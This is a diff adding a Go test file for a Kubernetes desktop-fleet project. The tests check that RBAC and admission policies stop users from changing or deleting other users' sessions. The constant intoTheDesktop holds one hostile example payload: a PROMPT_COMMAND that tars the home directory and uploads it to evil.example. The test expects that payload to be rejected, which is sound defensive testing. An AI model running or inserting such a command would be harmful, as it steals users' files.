@@ -1,0 +1,303 @@
+package api
+
+import (
+	"context"
+	"fmt"
+	"os"
+	"time"
+
+	. "github.com/onsi/ginkgo/v2"
+	. "github.com/onsi/gomega"
+	corev1 "k8s.io/api/core/v1"
+	apierrors "k8s.io/apimachinery/pkg/api/errors"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"k8s.io/apimachinery/pkg/types"
+	"k8s.io/client-go/dynamic"
+
+	vdi "github.com/vdi-fleet/vdi-fleet/api/v1alpha1"
+	"github.com/vdi-fleet/vdi-fleet/test/harness"
+)
+
+// The people of deploy/samples/users.yaml, with the roles of deploy/users.yaml.
+var (
+	aliceOfSamples = requester{"alice@example.com", nil}
+	bobOfSamples   = requester{"bob@example.com", nil}
+	operator       = requester{"oscar@example.com", []string{"operators"}}
+	// viewer has vdi-viewer, and patch without being the user of anything.
+	viewer = requester{"vera@example.com", nil}
+	// helpdesk may impersonate alice and no one else, and patch sessions.
+	helpdesk = requester{"help@example.com", nil}
+	// homekeeper may update everything of the fleet.
+	homekeeper = requester{"hugo@example.com", nil}
+	// The control plane's own.
+	namespaceController = requester{"system:serviceaccount:kube-system:namespace-controller", []string{"system:serviceaccounts", "system:serviceaccounts:kube-system"}}
+	// hubOfRelease has the roles of the hub, in a namespace that is not vdi-system.
+	hubOfRelease = requester{"system:serviceaccount:fleet:vdi-hub", []string{"system:serviceaccounts", "system:serviceaccounts:fleet"}}
+)
+
+const ownershipRoles = `
+apiVersion: rbac.authorization.k8s.io/v1
+kind: RoleBinding
+metadata: {namespace: desktops, name: viewers}
+roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: vdi-viewer}
+subjects: [{apiGroup: rbac.authorization.k8s.io, kind: User, name: vera@example.com}]
+---
+apiVersion: rbac.authorization.k8s.io/v1
+kind: RoleBinding
+metadata: {namespace: desktops, name: helpdesk}
+roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: vdi-user}
+subjects: [{apiGroup: rbac.authorization.k8s.io, kind: User, name: help@example.com}]
+---
+apiVersion: rbac.authorization.k8s.io/v1
+kind: ClusterRole
+metadata: {name: helpdesk}
+rules: [{apiGroups: [""], resources: [users], resourceNames: [alice@example.com], verbs: [impersonate]}]
+---
+apiVersion: rbac.authorization.k8s.io/v1
+kind: ClusterRoleBinding
+metadata: {name: helpdesk}
+roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: helpdesk}
+subjects: [{apiGroup: rbac.authorization.k8s.io, kind: User, name: help@example.com}]
+---
+apiVersion: rbac.authorization.k8s.io/v1
+kind: ClusterRole
+metadata: {name: updater}
+rules: [{apiGroups: [vdi.kasm.io], resources: [memberclusters, vditemplates, vdihomes], verbs: [get, update]}]
+---
+apiVersion: rbac.authorization.k8s.io/v1
+kind: ClusterRoleBinding
+metadata: {name: updaters}
+roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: updater}
+subjects: [{apiGroup: rbac.authorization.k8s.io, kind: User, name: hugo@example.com}]
+---
+apiVersion: rbac.authorization.k8s.io/v1
+kind: ClusterRoleBinding
+metadata: {name: hub-of-release}
+roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: vdi-hub}
+subjects: [{kind: ServiceAccount, namespace: fleet, name: vdi-hub}]
+`
+
+// intoTheDesktop has a command run in the desktop of whoever's session it is put
+// into: bash runs it before each prompt.
+const intoTheDesktop = `{"spec":{"attempt":1,"env":[{"name":"PROMPT_COMMAND","value":"tar cz ~ | curl -sT - https://evil.example/"}]}}`
+
+var _ = Describe("The policies of ownership", Ordered, ContinueOnFailure, func() {
+	var hub *harness.ControlPlane
+
+	BeforeAll(func() {
+		ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
+		defer cancel()
+		var err error
+		hub, err = harness.StartControlPlane(ctx, harness.ControlPlaneOptions{
+			Name: "ownership", APIOnly: true, CRDDirs: []string{crdDir}, AdmissionDir: admissionDir,
+			Namespaces: map[string]map[string]string{"desktops": nil, "vdi-system": nil},
+		})
+		Expect(err).NotTo(HaveOccurred())
+		DeferCleanup(func() { Expect(hub.Stop()).To(Succeed()) })
+		for _, file := range []string{"../../deploy/users.yaml", "../../deploy/samples/users.yaml", "../../deploy/rbac/hub.yaml"} {
+			content, err := os.ReadFile(file)
+			Expect(err).NotTo(HaveOccurred())
+			Expect(hub.Apply(ctx, content)).To(Succeed())
+		}
+		Expect(hub.Apply(ctx, []byte(ownershipRoles))).To(Succeed())
+		// The API server learns of roles, and of each policy, a moment later.
+		Eventually(ctx, func(ctx context.Context) error {
+			_, err := as(hub, hubOfRelease).List(ctx, metav1.ListOptions{})
+			return err
+		}).Should(Succeed())
+		probe := sessionFor("alice@example.com")
+		probe.SetName("probe")
+		create(ctx, hub, root, probe)
+		for _, change := range []string{
+			`{"metadata":{"labels":{"a":"b"}}}`,
+			`{"metadata":{"annotations":{"vdi.kasm.io/move":"eu-west"}}}`,
+			`{"metadata":{"finalizers":null}}`,
+		} {
+			Eventually(ctx, func(ctx context.Context) error {
+				return modify(ctx, hub, bobOfSamples, "probe", change)
+			}).Should(MatchError(apierrors.IsForbidden, "IsForbidden"))
+		}
+	})
+
+	alices := func(ctx context.Context) string {
+		GinkgoHelper()
+		return create(ctx, hub, aliceOfSamples, sessionFor("alice@example.com")).GetName()
+	}
+
+	It("keep a user from having a command run in another's desktop", func(ctx context.Context) {
+		name := alices(ctx)
+		err := modify(ctx, hub, bobOfSamples, name, intoTheDesktop)
+		Expect(apierrors.IsForbidden(err)).To(BeTrue(), fmt.Sprint("denied: ", err))
+		Expect(err).To(MatchError(HaveSuffix("denied request: you are bob@example.com: session asked is of alice@example.com; to change or delete it, " +
+			"you need permission to impersonate user alice@example.com, or to administer sessions in namespace desktops (verb administer on vdisessions)")))
+	})
+
+	DescribeTable("deny a change of another's session", func(ctx context.Context, change string) {
+		Expect(modify(ctx, hub, bobOfSamples, alices(ctx), change)).To(MatchError(ContainSubstring("session asked is of alice@example.com")))
+	},
+		Entry("that suspends it", `{"spec":{"operatingMode":"Suspended"}}`),
+		Entry("that ends it sooner", `{"spec":{"timeout":"1s"}}`),
+		Entry("that labels it", `{"metadata":{"labels":{"tier":"production"}}}`),
+		Entry("that has it outlive its deletion", `{"metadata":{"finalizers":["example.com/mine","vdi.kasm.io/session-cleanup"]}}`),
+		Entry("that gives it an owner, with which it is collected", `{"metadata":{"ownerReferences":[{"apiVersion":"v1","kind":"ConfigMap","name":"gone","uid":"1"}]}}`),
+	)
+
+	It("deny to delete another's session, alone and among all", func(ctx context.Context) {
+		name := alices(ctx)
+		Expect(as(hub, bobOfSamples).Delete(ctx, name, metav1.DeleteOptions{})).To(MatchError(ContainSubstring("session asked is of alice@example.com")))
+		zero := int64(0)
+		Expect(as(hub, bobOfSamples).Delete(ctx, name, metav1.DeleteOptions{GracePeriodSeconds: &zero})).To(MatchError(ContainSubstring("session asked is of alice@example.com")))
+		// vdi-user has no deletecollection; one who has is judged session by session.
+		Expect(as(hub, bobOfSamples).DeleteCollection(ctx, metav1.DeleteOptions{}, metav1.ListOptions{})).To(MatchError(apierrors.IsForbidden, "IsForbidden"))
+		Expect(hub.Apply(ctx, []byte(collector))).To(Succeed())
+		Eventually(ctx, func(ctx context.Context) error {
+			return as(hub, bobOfSamples).DeleteCollection(ctx, metav1.DeleteOptions{}, metav1.ListOptions{})
+		}).Should(MatchError(ContainSubstring("session asked is of alice@example.com")))
+	})
+
+	It("deny it by server-side apply", func(ctx context.Context) {
+		name := alices(ctx)
+		mine := sessionFor("alice@example.com")
+		mine.SetLabels(map[string]string{"tier": "production"})
+		_, err := as(hub, bobOfSamples).Apply(ctx, name, mine, metav1.ApplyOptions{FieldManager: "bob", Force: true})
+		Expect(err).To(MatchError(ContainSubstring("session asked is of alice@example.com")))
+	})
+
+	It("deny it to whoever may see it all", func(ctx context.Context) {
+		Expect(modify(ctx, hub, viewer, alices(ctx), `{"spec":{"timeout":"2h"}}`)).To(MatchError(apierrors.IsForbidden, "IsForbidden"))
+	})
+
+	DescribeTable("let a session be changed and deleted by", func(ctx context.Context, who requester) {
+		name := alices(ctx)
+		Expect(modify(ctx, hub, who, name, `{"spec":{"operatingMode":"Suspended"}}`)).To(Succeed())
+		Expect(as(hub, who).Delete(ctx, name, metav1.DeleteOptions{DryRun: dryRun.DryRun})).To(Succeed())
+	},
+		Entry("its user", aliceOfSamples),
+		Entry("one who may impersonate that user", helpdesk),
+		Entry("an operator", operator),
+		Entry("an administrator of the cluster", root),
+	)
+
+	It("deny it to one who may impersonate somebody else", func(ctx context.Context) {
+		made := create(ctx, hub, bobOfSamples, sessionFor("bob@example.com"))
+		Expect(modify(ctx, hub, helpdesk, made.GetName(), `{"spec":{"timeout":"2h"}}`)).To(MatchError(ContainSubstring("session asked is of bob@example.com")))
+	})
+
+	It("let the hub work, in whatever namespace it is installed", func(ctx context.Context) {
+		name := alices(ctx)
+		Expect(modify(ctx, hub, hubOfRelease, name, `{"metadata":{"annotations":{"vdi.kasm.io/move":null}}}`)).To(Succeed())
+		Expect(modify(ctx, hub, hubOfRelease, name, `{"metadata":{"finalizers":null}}`)).To(Succeed())
+		Expect(modify(ctx, hub, hubOfRelease, name, fmt.Sprintf(`{"metadata":{"finalizers":[%q]}}`, vdi.Finalizer))).To(Succeed())
+	})
+
+	It("let the control plane delete what was in a namespace", func(ctx context.Context) {
+		Expect(hub.Apply(ctx, []byte(controllers))).To(Succeed())
+		name := alices(ctx)
+		Eventually(ctx, func(ctx context.Context) error {
+			return as(hub, namespaceController).Delete(ctx, name, metav1.DeleteOptions{DryRun: dryRun.DryRun})
+		}).Should(Succeed())
+	})
+
+	DescribeTable("keep a session's own user from the annotation of an operator", func(ctx context.Context, annotation string) {
+		name := alices(ctx)
+		message := "you are alice@example.com: annotation " + annotation + " needs permission to administer sessions in namespace desktops (verb administer on vdisessions)"
+		set, unset := fmt.Sprintf(`{"metadata":{"annotations":{%q:"eu-west"}}}`, annotation), fmt.Sprintf(`{"metadata":{"annotations":{%q:null}}}`, annotation)
+		Expect(modify(ctx, hub, aliceOfSamples, name, set)).To(MatchError(HaveSuffix("denied request: " + message)))
+		annotated := sessionFor("alice@example.com")
+		annotated.SetAnnotations(map[string]string{annotation: ""})
+		_, err := as(hub, aliceOfSamples).Create(ctx, annotated, dryRun)
+		Expect(err).To(MatchError(HaveSuffix("denied request: " + message)))
+		Expect(modify(ctx, hub, operator, name, set)).To(Succeed())
+		Expect(modify(ctx, hub, aliceOfSamples, name, `{"spec":{"timeout":"2h"}}`)).To(Succeed(), "what is there already is not judged again")
+		Expect(modify(ctx, hub, aliceOfSamples, name, unset)).To(MatchError(HaveSuffix("denied request: " + message)))
+		Expect(modify(ctx, hub, aliceOfSamples, name, `{"metadata":{"annotations":{"example.com/mine":"x"}}}`)).To(Succeed())
+		Expect(modify(ctx, hub, operator, name, unset)).To(Succeed())
+	},
+		Entry("force-cleanup", vdi.AnnotationForceCleanup),
+		Entry("move", vdi.AnnotationMove),
+	)
+
+	It("keep a user from ending a session behind the hub's back", func(ctx context.Context) {
+		name := alices(ctx)
+		err := modify(ctx, hub, aliceOfSamples, name, `{"metadata":{"finalizers":null}}`)
+		Expect(err).To(MatchError(HaveSuffix("denied request: you are alice@example.com: only the hub removes finalizer vdi.kasm.io/session-cleanup of asked, " +
+			"once its members have confirmed what it waits for; its status says what that is (to remove it all the same takes verb update on vdisessions/finalizers)")))
+		Expect(modify(ctx, hub, operator, name, `{"metadata":{"finalizers":null}}`)).To(MatchError(ContainSubstring("only the hub removes finalizer")))
+		Expect(modify(ctx, hub, aliceOfSamples, name, fmt.Sprintf(`{"metadata":{"finalizers":["example.com/mine",%q]}}`, vdi.Finalizer))).To(Succeed())
+		Expect(modify(ctx, hub, aliceOfSamples, name, fmt.Sprintf(`{"metadata":{"finalizers":[%q]}}`, vdi.Finalizer))).To(Succeed(), "a user's own finalizer is the user's")
+	})
+
+	DescribeTable("let nobody but the hub remove its finalizer of a", func(ctx context.Context, resource, finalizer string) {
+		held := build(resource, `metadata: {name: held}`)
+		held.SetFinalizers([]string{finalizer})
+		as := func(who requester) dynamic.ResourceInterface {
+			all := clientOf(hub, who, vdi.GroupVersion.WithResource(resource))
+			if held.GetKind() == "VDIHome" {
+				return all.Namespace("desktops")
+			}
+			return all
+		}
+		remove := func(who requester) error {
+			_, err := as(who).Update(ctx, held, metav1.UpdateOptions{})
+			return err
+		}
+		held, err := as(root).Create(ctx, held, metav1.CreateOptions{})
+		Expect(err).NotTo(HaveOccurred())
+		held.SetFinalizers(nil)
+		Expect(remove(homekeeper)).To(MatchError(ContainSubstring("only the hub removes finalizer " + finalizer + " of held")))
+		Expect(hub.Apply(ctx, []byte(hubUpdates))).To(Succeed())
+		Eventually(func() error { return remove(hubOfRelease) }).Should(Succeed())
+		Expect(as(root).Delete(ctx, "held", metav1.DeleteOptions{})).To(Succeed())
+	},
+		Entry("member", "memberclusters", vdi.MemberFinalizer),
+		Entry("template", "vditemplates", vdi.TemplateFinalizer),
+		Entry("home", "vdihomes", vdi.HomeFinalizer),
+	)
+
+	It("give the roles of people no Secrets", func(ctx context.Context) {
+		for _, who := range []requester{aliceOfSamples, viewer, operator} {
+			_, err := clientOf(hub, who, corev1.SchemeGroupVersion.WithResource("secrets")).Namespace("desktops").List(ctx, metav1.ListOptions{})
+			Expect(err).To(MatchError(apierrors.IsForbidden, "IsForbidden"), who.user)
+		}
+	})
+})
+
+// hubUpdates lets the hub update by PUT what it patches, so that one request does for
+// all kinds here. Its right to remove finalizers is that of deploy/rbac alone.
+const hubUpdates = `
+apiVersion: rbac.authorization.k8s.io/v1
+kind: ClusterRoleBinding
+metadata: {name: hub-updates}
+roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: updater}
+subjects: [{kind: ServiceAccount, namespace: fleet, name: vdi-hub}]
+`
+
+// collector lets users delete collections, as some roles of other systems do.
+const collector = `
+apiVersion: rbac.authorization.k8s.io/v1
+kind: Role
+metadata: {namespace: desktops, name: collector}
+rules: [{apiGroups: [vdi.kasm.io], resources: [vdisessions], verbs: [deletecollection, list]}]
+---
+apiVersion: rbac.authorization.k8s.io/v1
+kind: RoleBinding
+metadata: {namespace: desktops, name: collectors}
+roleRef: {apiGroup: rbac.authorization.k8s.io, kind: Role, name: collector}
+subjects: [{apiGroup: rbac.authorization.k8s.io, kind: User, name: bob@example.com}]
+`
+
+// controllers gives the namespace controller what kube-controller-manager's own role
+// gives it.
+const controllers = `
+apiVersion: rbac.authorization.k8s.io/v1
+kind: RoleBinding
+metadata: {namespace: desktops, name: namespace-controller}
+roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: "system:controller:namespace-controller"}
+subjects: [{kind: ServiceAccount, namespace: kube-system, name: namespace-controller}]
+`
+
+// modify patches a session of namespace desktops.
+func modify(ctx context.Context, hub *harness.ControlPlane, who requester, name, change string) error {
+	_, err := as(hub, who).Patch(ctx, name, types.MergePatchType, []byte(change), metav1.PatchOptions{})
+	return err
+}
